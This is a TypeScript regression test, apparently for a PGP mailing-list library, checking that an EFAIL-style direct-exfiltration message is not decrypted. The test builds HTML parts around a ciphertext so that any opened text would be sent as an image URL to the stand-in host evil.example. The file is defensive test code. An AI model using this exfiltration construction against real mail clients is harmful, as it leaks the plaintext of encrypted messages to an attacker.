/**
 * EFAIL's direct exfiltration: HTML before and after a ciphertext, so that the opened text becomes part of
 * a link. Schleuder 4 and 5 open it. The three parts stay as they came (S1).
 */
import assert from "node:assert/strict";
import { it } from "node:test";
import { latin1 } from "#base";
import { composePart } from "#mime";
import {
  correspondent,
  entity,
  mixed,
  openFor,
  postFrom,
  sealed,
  sealedArmour,
} from "../support/correspondents.ts";

const html = (text: string) => composePart({ fields: [["Content-Type", "text/html"]], body: latin1(text) });

it("does not open a ciphertext between HTML parts, as PGP/MIME or as inline armour", async () => {
  const [list, alice, outsider] = await Promise.all(
    ["team", "alice", "outsider"].map((name) => correspondent(name)),
  );
  assert.ok(list && alice && outsider);
  const secret = entity("the secret of Alice\n");
  const inline = composePart({
    fields: [["Content-Type", "text/plain"]],
    body: await sealedArmour(list, secret, alice),
  });
  for (const ciphertext of [await sealed(list, secret, alice), inline]) {
    const content = mixed(html('<img src="http://evil.example/?'), ciphertext, html('">'));
    const result = await openFor(postFrom(outsider, content), [list], [alice]);
    assert.ok(result.ok);
    assert.equal(result.value.wasEncrypted, null);
    assert.deepEqual(result.value.sessionKeys, []);
    assert.deepEqual(result.value.signatures, []);
    assert.ok(result.value.problems.length > 0);
    assert.ok(!Buffer.from(result.value.content).includes("the secret"));
  }
});
